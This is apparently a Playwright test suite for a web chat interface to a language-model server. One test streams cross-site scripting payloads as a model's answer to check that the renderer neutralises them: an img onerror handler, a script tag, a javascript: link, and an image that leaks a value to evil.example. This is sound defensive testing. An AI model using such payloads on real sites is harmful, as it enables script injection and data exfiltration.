import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expect, expectAccessible, expectFits, modelName, signIn, test } from "./harness";

/** Answers every question with `text`, as a server streams it. */
async function answerWith(page: Page, text: string, reasoning = ""): Promise<void> {
  const chunk = (delta: object, finish_reason: string | null = null) => ({ choices: [{ index: 0, delta, finish_reason }] });
  const events = [
    ...(reasoning ? [chunk({ reasoning_content: reasoning })] : []),
    ...(text.match(/[\s\S]{1,7}/g) ?? []).map((content) => chunk({ content })),
    chunk({}, "stop"),
    { choices: [], usage: { prompt_tokens: 5, completion_tokens: 42 } },
  ];
  const body = [...events.map((event) => JSON.stringify(event)), "[DONE]"].map((data) => `data: ${data}\n\n`).join("");
  await page.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", body }));
}

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole("textbox", { name: "Question" }).fill(question);
  await page.keyboard.press("Enter");
}

const answers = (page: Page) => page.getByRole("article", { name: "Answer" });

test("an answer of the server's streams in and is kept", async ({ page, openServer }) => {
  await page.goto(`${openServer.url}/`);
  await expect(page.getByRole("combobox", { name: "Model" })).toHaveValue(modelName);
  await page.getByRole("button", { name: "Settings of this chat" }).click();
  await page.getByLabel("Most tokens of an answer").fill("24");
  await page.getByLabel("Temperature").fill("1");
  await page.getByLabel("Seed").fill("7");
  await page.getByRole("button", { name: "Close" }).last().click();
  await ask(page, "What is a ridge?");
  await expect(answers(page)).toContainText(/24 tokens.*\d tokens\/s/);
  await expect(page.getByText("The answer was cut off")).toBeVisible();

  const address = page.url();
  await page.reload();
  await expect(page.getByRole("article", { name: "Question" })).toContainText("What is a ridge?");
  await expect(answers(page)).toContainText("24 tokens");
  expect(page.url()).toBe(address);

  await page.getByRole("link", { name: "New chat" }).click();
  await expect(answers(page)).toHaveCount(0);
});

test("an answer is shown while it is written, and can be stopped", async ({ page, openServer }) => {
  let questions = 0;
  let left: () => void = () => {};
  const isLeft = new Promise<void>((done) => (left = done));
  const event = (data: object) => `data: ${JSON.stringify(data)}\n\n`;
  const said = (content: string, finish_reason: string | null = null) =>
    event({ choices: [{ index: 0, delta: { content }, finish_reason }] });
  const slow = createServer((request, response) => {
    request.resume();
    response.writeHead(200, { "Content-Type": "text/event-stream" });
    response.write(said("so far"));
    if (++questions === 1) {
      response.on("close", left); // never ends by itself
      return;
    }
    const rest = said(" and all", "stop") + event({ choices: [], usage: { prompt_tokens: 1, completion_tokens: 11 } });
    setTimeout(() => response.end(`${rest}data: [DONE]\n\n`), 200);
  });
  await once(slow.listen(0, "127.0.0.1"), "listening");
  const { port } = slow.address() as AddressInfo;
  await page.route("**/v1/chat/completions", (route) => route.continue({ url: `http://127.0.0.1:${port}/` }));
  try {
    await page.goto(`${openServer.url}/`);
    await ask(page, "Go on for long");
    await expect(answers(page)).toContainText("so far");
    await expect(page.getByRole("button", { name: "Send" })).toBeHidden();
    await page.getByRole("button", { name: "Stop" }).click();
    await expect(answers(page)).toContainText("Stopped");
    await isLeft; // The server is told, so that the engine stops as well.

    await ask(page, "And now to the end");
    await expect(answers(page).last()).toContainText("so far and all");
    await expect(answers(page).last()).toContainText(/11 tokens.*\d tokens\/s.*first after/);
  } finally {
    slow.closeAllConnections();
    slow.close();
  }
});

test("it does so for who has signed in", async ({ page, lockedServer }) => {
  await signIn(page, lockedServer, "dan");
  await page.getByRole("button", { name: "Settings of this chat" }).click();
  await page.getByLabel("Most tokens of an answer").fill("3");
  await page.getByRole("button", { name: "Close" }).last().click();
  await ask(page, "Hello");
  await expect(answers(page)).toContainText("3 tokens");
  await page.getByRole("button", { name: "Sign out" }).click();
  await signIn(page, lockedServer, "ann");
  await expect(page.getByRole("link", { name: "New chat" })).toBeVisible();
  await expect(page.getByRole("link", { name: "Hello" })).toHaveCount(0); // dan's own
});

test("Markdown, formulas and code are drawn, and HTML is not", async ({ page, openServer, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const text = [
    "**bold** and $e^{i\\pi} = -1$",
    "```python\nprint(1 < 2)\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<img src=x onerror=\"document.title='pwned'\"> <script>document.title='pwned'</script>",
    "[bad](javascript:document.title='pwned') ![leak](https://evil.example/?q=secret) [good](https://example.org)",
  ].join("\n\n");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await answerWith(page, text, "I think first.");
  await page.goto(`${openServer.url}/`);
  await ask(page, "Show me");
  const answer = answers(page);
  await expect(answer.locator("strong")).toHaveText("bold");
  await expect(answer.locator(".katex").first()).toBeVisible();
  await expect(answer.locator("td").first()).toHaveText("1");
  await expect(answer.getByText("I think first.")).toBeHidden(); // folded
  await answer.getByText("Reasoning").click();
  await expect(answer.getByText("I think first.")).toBeVisible();
  await answer.getByTitle("Copy the code").click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("print(1 < 2)\n");

  await expect(answer.locator("img, script")).toHaveCount(0);
  const addresses = await answer.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(addresses).toContain("https://example.org");
  expect(addresses.filter((address) => /^javascript:/i.test(address ?? ""))).toEqual([]);
  expect(await page.title()).not.toBe("pwned");
  expect(asked.filter((url) => !url.startsWith(openServer.url))).toEqual([]);
  await expectAccessible(page);
});

test("an edited question and another answer are branches", async ({ page, openServer }) => {
  await answerWith(page, "first");
  await page.goto(`${openServer.url}/`);
  await ask(page, "one");
  await expect(answers(page)).toContainText("first");
  await page.unroute("**/v1/chat/completions");
  await answerWith(page, "second");
  await answers(page).getByRole("button", { name: "Another answer" }).click();
  await expect(answers(page)).toContainText("second");
  await answers(page).getByRole("button", { name: "Previous version" }).click();
  await expect(answers(page)).toContainText("first");

  const question = page.getByRole("article", { name: "Question" });
  await question.getByRole("button", { name: "Edit the question" }).click();
  await page.getByRole("textbox", { name: "Edit the question" }).fill("two");
  await page.keyboard.press("Enter");
  await expect(question).toContainText("two");
  await expect(answers(page)).toContainText("second");
  await question.getByRole("button", { name: "Previous version" }).click();
  await expect(question).toContainText("one");
  await expect(answers(page)).toContainText("first");
});

test("files are told to the model as text, and others are refused", async ({ page, openServer }) => {
  await answerWith(page, "read");
  await page.goto(`${openServer.url}/`);
  const picker = page.locator('input[type="file"]');
  await picker.setInputFiles({ name: "picture.png", mimeType: "image/png", buffer: Buffer.from([0x89, 0x50, 0, 0xff]) });
  await expect(page.getByText("picture.png is no text file.")).toBeVisible();
  await picker.setInputFiles({ name: "notes.md", mimeType: "text/plain", buffer: Buffer.from("a ```fence``` inside") });
  await expect(page.getByRole("list", { name: "Attached files" })).toContainText("notes.md");
  const [request] = await Promise.all([page.waitForRequest("**/v1/chat/completions"), ask(page, "What does it say?")]);
  const { messages } = request.postDataJSON() as { messages: { content: string }[] };
  expect(messages[0]!.content).toBe("File notes.md:\n\n````\na ```fence``` inside\n````\n\nWhat does it say?");
  await expect(page.getByRole("article", { name: "Question" })).toContainText("notes.md");
});

test("what the server refuses is shown, and can be asked again", async ({ page, openServer }) => {
  await page.goto(`${openServer.url}/`);
  const error = { message: "the tokens of this day are used up", type: "insufficient_quota", code: "quota" };
  await page.route("**/v1/chat/completions", (route) => route.fulfill({ status: 402, json: { error } }));
  await ask(page, "Hello");
  await expect(page.getByRole("alert")).toContainText("the tokens of this day are used up");
  await page.unroute("**/v1/chat/completions");
  await answerWith(page, "now it works");
  await answers(page).getByRole("button", { name: "Another answer" }).click();
  await expect(answers(page)).toContainText("now it works");
});

test("the playground asks both sides", async ({ page, openServer }) => {
  await page.goto(`${openServer.url}/#/playground`);
  for (const side of ["Left", "Right"]) {
    await page.getByRole("button", { name: `Settings of this side: ${side}` }).click();
    await page.getByLabel("Most tokens of an answer").fill(side === "Left" ? "2" : "4");
    await page.getByRole("button", { name: "Close" }).last().click();
  }
  await ask(page, "Compare");
  await expect(page.getByRole("region", { name: "Left" })).toContainText("2 tokens");
  await expect(page.getByRole("region", { name: "Right" })).toContainText("4 tokens");
  await expectAccessible(page);
});

test("on a narrow screen nothing is wider than it, and the menu opens by keys", async ({ page, openServer }) => {
  await page.setViewportSize({ width: 360, height: 700 });
  await answerWith(page, "```\n" + "long ".repeat(60) + "\n```\n\n" + "word".repeat(60));
  await page.goto(`${openServer.url}/`);
  await ask(page, "Write");
  await expect(answers(page)).toContainText("wordword");
  await expectFits(page);
  await page.getByRole("button", { name: "Menu" }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("link", { name: "Settings" }).press("Enter");
  await expect(page.getByRole("heading", { name: "Settings" })).toBeVisible();
  await expectFits(page);
  await expectAccessible(page);
});

test("theme and language follow the person", async ({ page, openServer }) => {
  await page.goto(`${openServer.url}/#/settings`);
  await page.getByLabel("Theme").selectOption("dark");
  expect(await page.evaluate(() => getComputedStyle(document.documentElement).colorScheme)).toBe("dark");
  await expectAccessible(page);
  await page.getByLabel("Language").selectOption("zh");
  await expect(page.getByRole("heading", { name: "设置" })).toBeVisible();
  await page.reload();
  await expect(page.getByRole("heading", { name: "设置" })).toBeVisible();
  expect(await page.locator("html").getAttribute("lang")).toBe("zh-CN");
  await page.goto(`${openServer.url}/#/chat`);
  await expect(page.getByRole("button", { name: "发送" })).toBeVisible();
  await expectAccessible(page);
});

test("who wants it keeps chats on the server, and finds them in another browser", async ({ page, browser, lockedServer }) => {
  await signIn(page, lockedServer, "dan");
  await page.getByRole("link", { name: "Settings" }).click();
  await page.getByRole("radio", { name: "On the server" }).check();
  await page.goto(`${lockedServer.url}/#/chat`);
  await answerWith(page, "kept on the server");
  await ask(page, "Keep this");
  await expect(answers(page)).toContainText("42 tokens");
  await expect(page.getByRole("link", { name: "Keep this" })).toHaveAttribute("title", /on the server/);

  const other = await browser.newPage();
  await signIn(other, lockedServer, "dan");
  await other.getByRole("link", { name: "Keep this" }).click();
  await expect(answers(other)).toContainText("kept on the server");
  await other.getByRole("button", { name: "Sign out" }).click();
  await signIn(other, lockedServer, "ann");
  await expect(other.getByRole("link", { name: "New chat" })).toBeVisible();
  await expect(other.getByRole("link", { name: "Keep this" })).toHaveCount(0);
  await other.close();

  await page.getByRole("button", { name: "Delete the chat: Keep this" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await expect(page.getByRole("link", { name: "Keep this" })).toHaveCount(0);
  await page.reload();
  await expect(page.getByRole("link", { name: "New chat" })).toBeVisible();
  await expect(page.getByRole("link", { name: "Keep this" })).toHaveCount(0);
});

test("a prompt template is made, filled in and deleted", async ({ page, lockedServer }) => {
  await signIn(page, lockedServer, "dan");
  await page.getByRole("textbox", { name: "Question" }).fill("Translate to {{language}}: {{text}}");
  await page.getByRole("button", { name: "Prompt templates" }).click();
  await expect(page.getByRole("heading", { name: "No templates yet" })).toBeVisible();
  await page.getByRole("button", { name: "New template" }).click();
  await page.getByLabel("Name").fill("translate");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "translate", exact: true }).click();
  await expectAccessible(page);
  await page.getByRole("textbox", { name: "language" }).fill("German");
  await page.getByRole("textbox", { name: "text" }).fill("a ridge");
  await page.getByRole("button", { name: "Use" }).click();
  await expect(page.getByRole("textbox", { name: "Question" })).toHaveValue("Translate to German: a ridge");

  await page.getByRole("button", { name: "Prompt templates" }).click();
  await page.getByRole("button", { name: "Delete the template: translate" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete", exact: true }).click();
  await expect(page.getByRole("heading", { name: "No templates yet" })).toBeVisible();
});

test("a model that reasons can be told to answer now", async ({ page, openServer }) => {
  const thought = { choices: [{ index: 0, delta: { reasoning_content: "Hm, let me think" }, finish_reason: null }] };
  const thinker = createServer((request, response) => {
    request.resume();
    response.writeHead(200, { "Content-Type": "text/event-stream", "x-request-id": "req_of_ours" });
    response.write(`data: ${JSON.stringify(thought)}\n\n`);
  });
  await once(thinker.listen(0, "127.0.0.1"), "listening");
  const { port } = thinker.address() as AddressInfo;
  await page.route("**/v1/chat/completions", (route) => route.continue({ url: `http://127.0.0.1:${port}/` }));
  try {
    await page.goto(`${openServer.url}/`);
    await ask(page, "Think");
    await expect(answers(page)).toContainText("Hm, let me think"); // open while it goes on
    const [told] = await Promise.all([
      page.waitForRequest((request) => request.method() === "POST" && request.url().includes("/answer_now")),
      page.getByRole("button", { name: "Answer now" }).click(),
    ]);
    expect(new URL(told.url()).pathname).toBe("/v1/requests/req_of_ours/answer_now");
    await page.getByRole("textbox", { name: "Question" }).press("Escape");
    await expect(answers(page)).toContainText("Stopped");
  } finally {
    thinker.closeAllConnections();
    thinker.close();
  }
});
